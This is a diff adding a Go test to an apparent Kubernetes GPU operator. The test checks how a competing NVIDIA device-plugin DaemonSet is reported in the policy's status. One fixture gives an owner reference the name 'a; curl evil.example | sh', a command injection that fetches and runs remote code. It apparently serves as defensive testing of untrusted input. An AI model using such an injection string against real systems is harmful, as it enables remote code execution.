@@ -103,6 +103,37 @@ func TestNothingIsMadeBesideAnotherOperatorsOperands(t *testing.T) {
 	require.Equal(t, "true", w.node("n1").Labels[label.Present])
 }
 
+func TestStatusReportsADevicePluginOfTheManifests(t *testing.T) {
+	w := newWorld(t)
+	pod := func(node string) *corev1.Pod {
+		return &corev1.Pod{
+			ObjectMeta: metav1.ObjectMeta{
+				Namespace: "manifests", Name: "plugin-" + node, Finalizers: []string{"example.com/kubelet"}, Labels: map[string]string{label.PartOf: label.Product, "app": "nvidia-device-plugin-daemonset"},
+				OwnerReferences: []metav1.OwnerReference{{Kind: "DaemonSet", Name: "nvidia-device-plugin-daemonset", Controller: new(true)}},
+			},
+			Spec: corev1.PodSpec{NodeName: node},
+		}
+	}
+	hostile := pod("n1")
+	hostile.Name, hostile.OwnerReferences[0].Name = "hostile", "a; curl evil.example | sh"
+	w.create(gpuNode("n1"), gpuNode("n2"), simulated("policy"), hostile)
+	w.settle()
+	require.Nil(t, meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested))
+	w.create(pod("n2"), pod("n1"), pod("without-gpu"))
+	w.settle()
+	c := meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested)
+	require.NotNil(t, c)
+	require.Equal(t, status.ReasonAnotherInstallation, c.Reason)
+	require.Contains(t, c.Message, ": DaemonSet manifests/nvidia-device-plugin-daemonset on node n1 (kubectl -n manifests delete daemonsets -l app.kubernetes.io/part-of=gpuready)")
+	require.NotEmpty(t, w.sets(), "it is only reported")
+
+	for _, node := range []string{"n1", "n2"} {
+		w.deleteObject(pod(node))
+	}
+	w.settle()
+	require.Nil(t, meta.FindStatusCondition(w.policy("policy").Status.Conditions, v1.ConditionContested))
+}
+
 // theirDeployment is the Deployment of NVIDIA's operator.
 var theirDeployment = types.NamespacedName{Namespace: "gpu-operator", Name: label.NVIDIADeployment}
 
